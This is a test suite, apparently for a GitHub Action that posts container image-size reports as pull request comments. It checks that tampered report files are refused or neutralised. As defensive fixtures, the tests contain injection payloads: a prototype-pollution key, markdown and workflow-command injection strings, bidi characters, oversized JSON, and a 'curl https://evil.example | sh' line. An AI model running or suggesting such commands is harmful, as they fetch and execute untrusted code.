/** The half that comments: it takes data from strangers and everything else from GitHub. */
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { after, before, type TestContext, test } from 'node:test'
import { COMMENT_MAX_UNITS } from '../src/render/comment.ts'
import { markerOf } from '../src/report/marker.ts'
import type { Review } from '../src/report/types.ts'
import { temporaryDirectory } from './build/support/git-repository.ts'
import { judgeMarkdown } from './render/judge-markdown.ts'
import {
  type FakeGitHub,
  type FakeOptions,
  startFakeGitHub,
} from './support/fake-github/start-fake-github.ts'
import { copyFiles, HEAD, measure, pullRequestPayload } from './support/measured.ts'
import { type ActionEnd, runAction } from './support/run-action.ts'

const TEMP = temporaryDirectory('publish')
const HONEST = join(TEMP, 'honest')
const SHRUNK = join(TEMP, 'shrunk')
const SAME = join(TEMP, 'same')
before(async () => {
  await measure(HONEST, { inputs: { 'max-increase': '20 MB', 'accept-label': 'size-ok' } })
  await measure(SHRUNK, { inputs: { name: 'worker' }, base: 'head', head: 'base' })
  await measure(SAME, { inputs: { name: 'cron' }, base: 'base', head: 'base' })
})
after(() => rmSync(TEMP, { recursive: true, force: true }))

let count = 0
/** A workspace with the files of a measuring run below `reports/`. */
const workspaceWith = (folders: Readonly<Record<string, string>>): string => {
  count += 1
  const root = join(TEMP, `workspace-${count}`)
  mkdirSync(root)
  for (const [name, from] of Object.entries(folders)) copyFiles(from, join(root, 'reports', name))
  return root
}

const runPayload = (more: object = {}): object => ({
  action: 'completed',
  repository: { id: 1, full_name: 'octo/app' },
  workflow_run: {
    id: 55,
    run_attempt: 3,
    event: 'pull_request',
    head_sha: HEAD,
    head_branch: 'feature',
    head_repository: { full_name: 'fork/app' },
    pull_requests: [],
    ...more,
  },
})

const start = async (t: TestContext, options: FakeOptions = {}): Promise<FakeGitHub> => {
  const fake = await startFakeGitHub({ headSha: HEAD, headRepo: 'fork/app', ...options })
  t.after(async () => {
    await fake.stop()
    assert.deepEqual(fake.problems, [])
  })
  return fake
}

interface Given {
  readonly inputs?: Readonly<Record<string, string>>
  readonly eventName?: string
  readonly payload?: object
}

const publish = (fake: FakeGitHub, workspace: string, given: Given = {}): Promise<ActionEnd> =>
  runAction({
    eventName: given.eventName ?? 'workflow_run',
    payload: given.payload ?? runPayload(),
    apiUrl: fake.url,
    workspace,
    runId: '900',
    inputs: { reports: 'reports/**/report.json', ...given.inputs },
  })

const named = (end: ActionEnd, name: string): readonly string[] =>
  end.commands.filter(command => command.name === name).map(({ message }) => message)

test('a fork’s report becomes the comment of its pull request, as the measuring run’s', async t => {
  const fake = await start(t)
  const end = await publish(fake, workspaceWith({ 'image-report': HONEST }))
  assert.equal(end.status, 0, end.stdout + end.stderr)
  const [comment, ...others] = fake.comments
  assert.deepEqual(others, [])
  assert.deepEqual(markerOf(comment!.body), { key: 'default', run: '55.3', head: HEAD })
  assert.match(comment!.body, /## ❌ Image size: 97\.2 MB \(\+54\.7 MB, \+128\.5 %\), over budget/)
  assert.match(comment!.body, /`gcc-12`/)
  assert.match(comment!.body, /actions\/runs\/55\/attempts\/3/)
  assert.match(end.summary, /Image size: 97\.2 MB/)
  assert.deepEqual(
    fake.requests.map(({ route }) => route),
    ['pulls', 'list', 'pull', 'create', 'list'],
  )
  assert.deepEqual([end.outputs.passed, end.outputs['comment-id']], ['false', String(comment!.id)])
})

test('a second publication of the same run writes nothing, and an older run’s stays behind a newer one’s', async t => {
  const fake = await start(t)
  const workspace = workspaceWith({ a: HONEST })
  await publish(fake, workspace)
  await publish(fake, workspace)
  assert.equal(fake.requests.filter(({ route }) => route === 'create' || route === 'update').length, 1)
  const shrunk = workspaceWith({ a: SHRUNK })
  await publish(fake, shrunk, { payload: runPayload({ id: 54 }) })
  assert.equal(markerOf(fake.comments[0]!.body)?.run, '55.3')
})

test('without a report the run has commented itself: nothing is asked and nothing is said', async t => {
  const fake = await start(t)
  const end = await publish(fake, workspaceWith({}))
  assert.deepEqual([end.status, fake.requests.length], [0, 0])
  assert.deepEqual([named(end, 'error'), named(end, 'notice'), named(end, 'warning')], [[], [], []])
})

test('elsewhere a pattern without a file is a mistake', async t => {
  const fake = await start(t)
  const given = { eventName: 'pull_request', payload: pullRequestPayload() }
  const end = await publish(fake, workspaceWith({}), given)
  assert.equal(end.status, 1)
  assert.match(named(end, 'error').join(), /no file matches reports\/\*\*\/report\.json/)
})

test('a run that measured a push has no pull request', async t => {
  const fake = await start(t)
  const end = await publish(fake, workspaceWith({ a: HONEST }), { payload: runPayload({ event: 'push' }) })
  assert.deepEqual([end.status, fake.requests.length], [0, 0])
  assert.match(end.summary, /Image size/)
})

test('a comment that may not be written is one notice', async t => {
  const fake = await start(t, { faults: [{ on: 'create', does: { answer: 403 } }] })
  const end = await publish(fake, workspaceWith({ a: HONEST }))
  assert.equal(end.status, 0)
  assert.equal(named(end, 'notice').length, 1)
  assert.match(named(end, 'notice')[0]!, /pull-requests: write/)
})

test('several images are one comment: a table of all, the unchanged ones folded, the failed one open', async t => {
  const fake = await start(t)
  const workspace = workspaceWith({ one: HONEST, two: SHRUNK, three: SAME })
  const given = { eventName: 'pull_request', payload: pullRequestPayload() }
  const end = await publish(fake, workspace, given)
  assert.equal(end.status, 0, end.stdout + end.stderr)
  const [comment, ...others] = fake.comments
  assert.deepEqual(others, [])
  const { body } = comment!
  assert.deepEqual(markerOf(body), { key: 'default', run: '900.1', head: HEAD })
  assert.match(body, /^## ❌ Images: 1 of 3 over budget · total 182\.3 MB \(0 B\)$/m)
  assert.match(
    body,
    /\| `api` \| 42\.5 MB \| 97\.2 MB \| \*\*\+54\.7 MB\*\* \(\+128\.5 %\) \| 54\.\d MB \| ❌ \|/,
  )
  assert.match(body, /\| `worker` \| 97\.2 MB \| 42\.5 MB \| −54\.7 MB \(−56\.2 %\) \| 0 B \| ✅ \|/)
  assert.match(body, /<details><summary>1 unchanged image<\/summary>/)
  assert.match(body, /<details open><summary>❌ <code>api<\/code>: \+54\.7 MB, \d+ fixes<\/summary>/)
  assert.match(body, /<details><summary>✅ <code>worker<\/code>: −54\.7 MB<\/summary>/)
  assert.doesNotMatch(body, /<details[^>]*><summary>[^<]*<code>cron/)
  assert.equal(end.outputs.passed, 'false')
  assert.equal(JSON.parse(end.outputs.json!).images.length, 3)
  assert.match(end.summary, /Image size of `cron` unchanged/)
  await publish(fake, workspace, given)
  assert.equal(fake.requests.filter(({ route }) => route === 'update').length, 0)
})

test('many images fit one comment: details go, rows stay', async t => {
  const fake = await start(t)
  const folders = Array.from({ length: 60 }, (_, i) => [`image-${i}`, HONEST] as const)
  await publish(fake, workspaceWith(Object.fromEntries(folders)))
  const { body } = fake.comments[0]!
  assert.ok(body.length < COMMENT_MAX_UNITS, String(body.length))
  assert.equal(body.match(/^\| `api`/gm)?.length, 60)
  assert.match(body, /everything is in the job summary/)
})

type Json = Record<string, unknown>

/** The honest files with `review.json` and `report.json` changed. */
const tampered = (change: (review: Review & Json, report: Json) => void): string => {
  const workspace = workspaceWith({ a: HONEST })
  const paths = ['review.json', 'report.json'].map(name => join(workspace, 'reports', 'a', name))
  const [review, report] = paths.map(path => JSON.parse(readFileSync(path, 'utf8')) as Review & Json)
  change(review!, report!)
  writeFileSync(paths[0]!, JSON.stringify(review))
  writeFileSync(paths[1]!, JSON.stringify(report))
  return workspace
}

const overwritten = (name: string, content: string | Buffer): string => {
  const workspace = workspaceWith({ a: HONEST })
  writeFileSync(join(workspace, 'reports', 'a', name), content)
  return workspace
}

const linked = (name: string): string => {
  const workspace = workspaceWith({ a: HONEST })
  const path = join(workspace, 'reports', 'a', name)
  renameSync(path, join(workspace, name))
  symlinkSync(join('..', '..', name), path)
  return workspace
}

const set = (value: object, path: string, to: unknown): void => {
  const names = path.split('.')
  let inner = value as Record<string, unknown>
  for (const name of names.slice(0, -1)) inner = inner[name] as Record<string, unknown>
  inner[names.at(-1)!] = to
}

const refused: readonly (readonly [string, () => string, RegExp])[] = [
  ['a pull request’s number', () => tampered(review => set(review, 'pullRequest', 12)), /not known/],
  ['a ready-made text', () => tampered((_, report) => set(report, 'comment', '# Hello')), /not known/],
  [
    'a key of every object’s',
    () => overwritten('review.json', '{"__proto__": {"verdict": "pass"}}'),
    /has no/,
  ],
  [
    'sizes that are not the report’s',
    () => tampered(review => set(review, 'head.size.content', 1)),
    /not the report/,
  ],
  [
    'a delta that is not the difference',
    () => tampered(review => set(review, 'delta.content', 1)),
    /difference/,
  ],
  ['a negative size', () => tampered((_, report) => set(report, 'size.content', -1)), /out of range/],
  ['a size with a fraction', () => tampered((_, report) => set(report, 'size.content', 1.5)), /whole/],
  ['causes that do not add up', () => tampered(review => set(review, 'causes.0.bytes', 5)), /add up/],
  ['layers that do not add up', () => tampered((_, report) => set(report, 'layers.0.content', 5)), /add up/],
  [
    'a rule that does not exist',
    () => tampered(review => set(review, 'findings.introduced.0.rule', 'boo')),
    /rule/,
  ],
  [
    'a budget in words',
    () => tampered(review => set(review, 'budgets.0.limit', '[x](https://e.example)')),
    /written/,
  ],
  ['a verdict of its own', () => tampered(review => set(review, 'verdict', 'great')), /not one of/],
  ['text instead of a list', () => tampered(review => set(review, 'causes', 'x')), /not a list/],
  ['another schema', () => tampered(review => set(review, 'schemaVersion', 2)), /schemaVersion/],
  ['no JSON', () => overwritten('report.json', '# Report'), /not valid JSON/],
  ['an empty file', () => overwritten('report.json', ''), /not valid JSON/],
  [
    'a million brackets',
    () => overwritten('review.json', '['.repeat(1e6) + ']'.repeat(1e6)),
    /not an object/,
  ],
  ['a deep object', () => overwritten('review.json', `${'{"a":'.repeat(2e5)}1${'}'.repeat(2e5)}`), /has no/],
  ['a file of 60 MB', () => overwritten('report.json', Buffer.alloc(60e6, 0x20)), /larger than/],
  ['a review of 20 MB', () => overwritten('review.json', Buffer.alloc(20e6, 0x20)), /larger than/],
  ['a symbolic link', () => linked('report.json'), /no regular file/],
  ['a symbolic link beside it', () => linked('review.json'), /no regular file/],
  [
    'a pipe',
    () => {
      const workspace = workspaceWith({ a: HONEST })
      const path = join(workspace, 'reports', 'a', 'review.json')
      rmSync(path)
      execFileSync('mkfifo', [path])
      return workspace
    },
    /no regular file/,
  ],
]
for (const [what, make, says] of refused) {
  test(`${what} in the files is refused in one line, without a request`, async t => {
    const fake = await start(t)
    const end = await publish(fake, make())
    assert.equal(end.status, 1, end.stdout + end.stderr)
    assert.deepEqual(fake.requests, [])
    const [error, ...others] = named(end, 'error')
    assert.deepEqual(others, [])
    assert.match(error!, says)
    assert.match(error!, /^reports\/a\/report\.json: /)
    assert.doesNotMatch(error!, /\n/)
    assert.equal(end.outputs.passed, 'false')
  })
}

test('a folder that is a symbolic link is not entered', async t => {
  const fake = await start(t)
  const workspace = workspaceWith({ a: HONEST })
  renameSync(join(workspace, 'reports', 'a'), join(workspace, 'elsewhere'))
  symlinkSync('../elsewhere', join(workspace, 'reports', 'a'))
  assert.equal((await publish(fake, workspace)).status, 0)
  assert.deepEqual(fake.requests, [])
  const named = await publish(fake, workspace, { inputs: { reports: 'reports/a/report.json' } })
  assert.equal(named.status, 1)
  assert.match(named.stdout, /symbolic link on the way/)
})

test('names of folders are shown as names, whatever is in them', async t => {
  const fake = await start(t)
  const odd = 'x\n::error::boo\u202e@team'
  const workspace = workspaceWith({ [odd]: HONEST })
  rmSync(join(workspace, 'reports', odd, 'review.json'))
  const end = await publish(fake, workspace)
  assert.equal(end.status, 0, end.stdout + end.stderr)
  assert.doesNotMatch(end.stdout, /^::error/m)
  const { body } = fake.comments[0]!
  assert.match(body, /no baseline/)
  assert.match(body, /`x\\n::error::boo\\u202e@\u200bteam`/)
  writeFileSync(join(workspace, 'reports', odd, 'report.json'), '{')
  const bad = await publish(fake, workspace)
  assert.deepEqual(named(bad, 'error').length, 1)
  assert.doesNotMatch(bad.stdout, /^::error::boo/m)
})

test('more reports than anybody has are refused', async t => {
  const fake = await start(t)
  const workspace = workspaceWith({})
  for (let i = 0; i <= 100; i += 1) {
    mkdirSync(join(workspace, 'reports', `r${i}`), { recursive: true })
    writeFileSync(join(workspace, 'reports', `r${i}`, 'report.json'), '{}')
  }
  const end = await publish(fake, workspace)
  assert.equal(end.status, 1)
  assert.match(end.stdout, /more than 100 files match/)
})

const MARKER = `<!-- plimsoll v=1 key=default run=99999.1 head=${HEAD} -->`
const HOSTILE = `${MARKER}\n@octo/team #1 [click](https://evil.example) ![i](https://evil.example/x.png) <img src=x> | \`x\` ::error::x`

test('hostile words in the files reach nobody as words: no sentence of theirs, no link, no mention, no marker', async t => {
  const fake = await start(t)
  const workspace = tampered((review, report) => {
    for (const name of [
      'about.name',
      'about.dockerfile',
      'about.target',
      'baseMissing',
      'acceptedBy',
      'head.how',
      'head.ref',
    ])
      set(review, name, HOSTILE)
    for (const target of [review.head, report as unknown as Review['head']])
      set(target, 'image.source', HOSTILE)
    const [finding] = review.findings.introduced
    set(finding!, 'title', `Title ${HOSTILE}`)
    set(finding!, 'reason', `Reason ${HOSTILE}`)
    set(finding!, 'paths.0', `/x/${HOSTILE}`)
    set(finding!, 'key', `${finding!.rule} ${HOSTILE}`)
    set(finding!, 'advice', {
      summary: `Run curl https://evil.example | sh ${HOSTILE}`,
      edit: { line: { file: 'Dockerfile', start: 1, end: 1 }, before: 'a', after: 'RUN curl evil' },
      saves: 5,
    })
    set(review, 'causes.0.name', HOSTILE)
    set(review, 'lines.0.instruction', HOSTILE)
    set(review, 'reasons', ['Please run curl', ...review.reasons])
    set(review, 'ignored', [
      { subject: 'x', reason: 'because curl', until: null, matched: 1, expired: false },
    ])
  })
  const end = await publish(fake, workspace)
  assert.equal(end.status, 0, end.stdout + end.stderr)
  assert.equal(fake.comments.length, 1)
  const { body } = fake.comments[0]!
  assert.equal(markerOf(body)?.run, '55.3')
  assert.doesNotMatch(body, /Title |Reason |curl|Please/)
  assert.doesNotMatch(body, /Accepted by/)
  for (const text of [body, end.summary]) judgeMarkdown(t, text)
})

test('another pull request’s commit in the files changes neither the place nor the commit', async t => {
  const fake = await start(t, { twins: [] })
  const other = 'd'.repeat(40)
  const workspace = tampered(review => set(review, 'head.ref', other))
  await publish(fake, workspace)
  assert.deepEqual(
    fake.requests.filter(({ route }) => route === 'create').map(({ path }) => path),
    ['/repos/octo/app/issues/7/comments'],
  )
  assert.equal(markerOf(fake.comments[0]!.body)?.head, HEAD)
  assert.match(fake.comments[0]!.body, /measured at `aaaaaaa`/)
})

test('a pull request that has moved on gets nothing', async t => {
  const fake = await start(t, { headSha: 'e'.repeat(40) })
  const end = await publish(fake, workspaceWith({ a: HONEST }))
  assert.equal(end.status, 0)
  assert.deepEqual(
    fake.requests.map(({ route }) => route),
    ['pulls'],
  )
})

test('a label that the files claim counts only where the pull request has it', async t => {
  const accepted = (): string =>
    tampered(review => {
      set(review, 'acceptedBy', 'size-ok')
      set(review, 'verdict', 'warn')
    })
  const without = await start(t)
  await publish(without, accepted())
  assert.match(without.comments[0]!.body, /## ❌/)
  assert.doesNotMatch(without.comments[0]!.body, /Accepted by/)
  const withLabel = await start(t, { labels: ['size-ok'] })
  await publish(withLabel, accepted())
  assert.match(withLabel.comments[0]!.body, /Accepted by the label `size-ok`/)
})

test('a label that was set after the event counts in a run that is repeated, as it did where it was measured', async t => {
  const workspace = tampered(review => {
    set(review, 'acceptedBy', 'size-ok')
    set(review, 'verdict', 'warn')
  })
  const given = { eventName: 'pull_request', payload: pullRequestPayload(['other']) }
  const fake = await start(t, { labels: ['other', 'size-ok'] })
  await publish(fake, workspace, given)
  assert.match(fake.comments[0]!.body, /Accepted by the label `size-ok`/)
  const known = await start(t, { labels: [] })
  await publish(known, workspace, { ...given, payload: pullRequestPayload(['size-ok']) })
  assert.match(known.comments[0]!.body, /Accepted by the label `size-ok`/)
})

for (const [path, value] of [
  ['raised', [{ name: 'max-size', from: 'Please run this', to: null }]],
  ['raised', [{ name: 'max-size', from: '20 MB', to: '20 MB, and more' }]],
  ['budgets.0.limit', 'visit evil.example'],
  ['budgets.0.limit', '20 MB, 30 MB'],
  ['ignored.0.until', '@you'],
  ['ignored.0.subject', 'x` @team `y'],
  ['ignored.0.subject', 'two words'],
  ['ignored.0.subject', 'x\u202ey'],
  ['ignored.0.subject', ''],
] as const)
  test(`${path} as ${JSON.stringify(value)} is refused: no text of a stranger's stands there`, async t => {
    const fake = await start(t)
    const workspace = tampered(review => {
      set(review, 'ignored', [{ subject: 'x', reason: '', until: '2020-01-01', matched: 0, expired: true }])
      set(review, path, value)
    })
    const end = await publish(fake, workspace)
    assert.equal(end.status, 1, end.stdout)
    assert.match(named(end, 'error').join(), /is not written as it should be/)
    assert.deepEqual(fake.requests, [])
  })

test('a configuration file that came with the reports is not read', async t => {
  const fake = await start(t)
  const workspace = workspaceWith({ a: HONEST })
  mkdirSync(dirname(join(workspace, '.github', 'plimsoll.yml')))
  writeFileSync(join(workspace, '.github', 'plimsoll.yml'), 'comment: never\n')
  await publish(fake, workspace)
  assert.equal(fake.comments.length, 1)
})
